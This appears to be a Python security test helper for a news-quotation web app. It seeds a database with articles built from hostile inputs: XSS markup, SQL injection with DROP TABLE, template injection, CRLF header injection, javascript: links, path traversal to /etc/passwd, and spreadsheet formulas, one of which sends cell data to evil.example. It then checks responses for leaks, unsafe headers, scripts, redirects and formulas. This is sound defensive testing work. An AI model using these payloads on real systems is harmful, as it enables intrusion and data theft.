"""What hostile readers and hostile articles send, and what no answer to it may ever be."""

import csv
import io
import json
import re
from dataclasses import replace
from datetime import date
from urllib.parse import urlsplit
from xml.etree import ElementTree as ET

from sqlmodel import Session
from store import journalling
from store.building import NOW, Draft, save

from app.comparing import comparing
from app.records import Judgement, Said, SpeakerKind, Verdict
from app.settings import Settings, place
from app.store import engine, judgements, reports
from app.web import security
from app.web.app import create_app
from web.accounts import account
from web.reading_pages import parse

MARKUP = "\"'></title></textarea></script><script>alert(1)</script><img src=x onerror=alert(2)>"
TEMPLATE = "{{ 191*7 }}${191*7}{% raw %}#{191*7}<%= 191*7 %>"
WORKED_OUT = "1337"
BROKEN = "a\r\nSet-Cookie: stolen=1\r\nLocation: https://evil.example/\r\n\r\n<b>b"
PAYLOADS = {
    "markup": MARKUP,
    "sql": "' OR 1=1; DROP TABLE articles; --",
    "full text": '"a" OR NEAR(b c) NOT {words} : ^d* -e AND (',
    "template": TEMPLATE,
    "header": BROKEN,
    "script address": "javascript:alert(1)//",
    "elsewhere": "//evil.example/\\evil.example",
    "formula": '=HYPERLINK("https://evil.example/?x="&A1;"a")',
    "path": "../../../../../../etc/passwd",
    "controls": "\0\x1b[2J\x1b]0;x\x07\x0b\ufeff\u202e\u2028\ue000a\ue001\ufffe",
    "largest": str(2**63),
    "many digits": "9" * 4_400,
    "negative": "-1",
    "long": "a" * 6_000,
}
"""What is put into every parameter, by what it is to break."""
ADDRESSES = (
    "javascript:alert(3)",
    "JaVaScRiPt:alert(3)",
    " \tjava\nscript:alert(3)",
    "data:text/html,<script>alert(3)</script>",
    "vbscript:msgbox(3)",
    "https:alert(3)",
    '//evil.example/"onmouseover="alert(3)',
    "https://news.example/\r\nER  - \r\nTY  - NEWS",
    'https://news.example/"><script>alert(3)</script>',
)

_INSIDE = re.compile(
    r"Traceback|File \"/|site-packages|sqlalchemy|sqlite3?\.|OperationalError|SELECT .+ FROM|\.py\b"
)
_LEADS = ("/", "#", "?", "https://", "http://")
_FORMULA = re.compile(r"(?:\A|[;\t\r\n]) *[=+\-@＝＋－＠]")


def article(number, url):
    """An article of which everything that can be stated is an attack, and its address, too."""
    name = f"Eve {MARKUP} {TEMPLATE}"
    words = f"=1+1;=cmd|'/c calc'!A0 {MARKUP} \ue001{TEMPLATE}\ue000 \x1b[2J\x0b\u202e {number}"
    draft = Draft(
        f"“{words},” said {name}, {MARKUP} of Norway on Monday.",
        f'{MARKUP} "A caption" <!-- ]]> <![CDATA[',
        f"The toll costs 12 {MARKUP} and rises.",
        title=f"-1+1 {MARKUP} {TEMPLATE} {number}",
        outlet=f"@SUM(1) {MARKUP} {number % 3}",
        outlet_country="NO",
        url=url,
        published=date(2024, 5, 1),
        author=f"+1 {MARKUP} {TEMPLATE}",
        language="en",
        translated_from=MARKUP,
        file_name=f"..{MARKUP}\r\n.txt",
        topics=(MARKUP, TEMPLATE, "=1+1"),
        same_as=((name, ADDRESSES[number % len(ADDRESSES)]),),
    )
    eve = draft.entity(
        name,
        [SpeakerKind.PERSON, SpeakerKind.UNNAMED][number % 2],
        aliases=[MARKUP],
        roles=[MARKUP],
        home=("NO", "Norway"),
    )
    made = draft.statement(
        f"{words},",
        by=eve,
        cue=["said"],
        source=[name],
        about={"NO": "Norway"},
        reasons=(f"{MARKUP} → {name}",),
        said=Said(date(2024, 5, 1), date(2024, 5, 1), draft.span("on Monday"), "relative"),
        confidence=[0.9, 0.2][number % 2],
    )
    draft.claim(f"{words},", statement=made, about={"NO": "Norway"})
    draft.claim(f"The toll costs 12 {MARKUP} and rises")
    draft.claims[-1] = replace(draft.claims[-1], rule=MARKUP)
    return draft


def fill(path):
    """Make a database of nothing else: articles, a report, a correction, a journal, the name of an editor."""
    engine.migrate(path, place("migrations"))
    app = create_app(Settings(database=path))
    editor = account(app, f"Edda {MARKUP[-40:]}")
    with Session(app.state.writer) as db, db.begin():
        for number, url in enumerate(ADDRESSES):
            save(db, article(number, url))
        journalling.keep(db)
        first, second = db.connection().exec_driver_sql("SELECT ident FROM statements LIMIT 2").scalars()
        reports.report(db, first, 1, "other", MARKUP, NOW)
        judged = Judgement(Verdict.DISPUTED, second, f"=1+1 {MARKUP} {TEMPLATE}")
        judgements.judge(db, judged, editor, NOW, comparing())
    app.state.engine.dispose()
    app.state.writer.dispose()


def wrong_with(answer, *, secrets=()):
    """What is wrong with an answer, whatever was asked; nothing of it is in a good one."""
    return [*_headers(answer), *_inside(answer, secrets), *_body(answer)]


def _headers(answer):
    if answer.status_code >= 500 and answer.status_code != 501:
        yield f"is {answer.status_code}"
    framed = answer.headers.get("Content-Security-Policy") == security.FRAMED["Content-Security-Policy"]
    if framed and not answer.request.url.path.endswith("/embed"):
        yield "may be framed"
    for name, value in security.HEADERS.items():
        given = answer.headers.get(name)
        if given != value and not (framed and name in ("Content-Security-Policy", "X-Frame-Options")):
            yield f"has {name}: {given}"
    for name, value in answer.headers.items():
        if re.search(r"[\r\n\0]", value) or "stolen" in name + answer.headers.get("Set-Cookie", ""):
            yield f"has a header of the reader’s: {name}"
    for told in answer.headers.get_list("Set-Cookie"):
        parts = {part.strip().lower() for part in told.split(";")}
        if "httponly" not in parts or not {"samesite=lax", "samesite=strict"} & parts:
            yield f"sets a cookie that scripts and other sites have: {told}"
    leads = answer.headers.get("Location") or answer.headers.get("HX-Redirect", "/")
    there = urlsplit(leads)
    if leads.startswith(("//", "/\\")) or (
        there.netloc and there.netloc != answer.request.url.netloc.decode()
    ):
        yield f"leads to {leads}"


def _inside(answer, secrets):
    for secret in secrets:
        if secret in answer.text:
            yield f"tells {secret}"
    # Whatever was asked may be told again.
    if found := _INSIDE.search(answer.text):
        yield f"tells of our inside: {answer.text[max(0, found.start() - 80) : found.end() + 80]}"
    if WORKED_OUT in re.sub(r"data:[^\"]*|[0-9a-z]{8}", "", answer.text) and "{{ 191*7 }}" not in answer.text:
        yield "worked out a template"


def _body(answer):
    kind = answer.headers.get("Content-Type", "").partition(";")[0]
    if not answer.content or answer.status_code == 304 or "image" in kind:
        return
    if kind == "text/html":
        yield from _page(answer.text)
    elif kind.endswith("json"):
        json.loads(answer.text)
    elif kind == "application/jsonl":
        [json.loads(line) for line in answer.text.split("\n") if line]
    elif kind.endswith("xml"):
        ET.fromstring(answer.content)
    elif kind == "text/csv":
        lines = list(csv.reader(io.StringIO(answer.text, newline="")))
        if {len(line) for line in lines} != {len(lines[0])}:
            yield "has lines of more cells than others"
        yield from (f"has a formula: {cell}" for line in lines for cell in line if _FORMULA.search(cell))
    elif kind.endswith("systems") and (answer.text.count("\nER  - "), answer.text.count("TY  - ")) != (1, 1):
        yield "has records that nobody asked for"


def _page(html):
    page = parse(html)
    for script in page.all("script"):
        if script.attributes.get("type") == "application/ld+json":
            json.loads(script.text)
            if set("<>&") & set(script.text):
                yield f"has markup in its JSON-LD: {script.text}"
        elif not script.attributes.get("src", "").startswith("/static/"):
            yield f"has a script: {script.attributes} {script.text}"
    for element in _all(page):
        if element.tag in ("img", "iframe", "object", "embed", "base", "style", "b"):
            yield f"has <{element.tag}>"
        for name, value in element.attributes.items():
            leads = name in ("href", "src", "action", "formaction", "hx-get", "hx-post") and value
            outside = leads and (not value.startswith(_LEADS) or value.startswith("//"))
            if outside or name.startswith("on") or name == "style":
                yield f"has {name}={value} on <{element.tag}>"


def _all(element):
    for child in element.children:
        if not isinstance(child, str):
            yield child
            yield from _all(child)
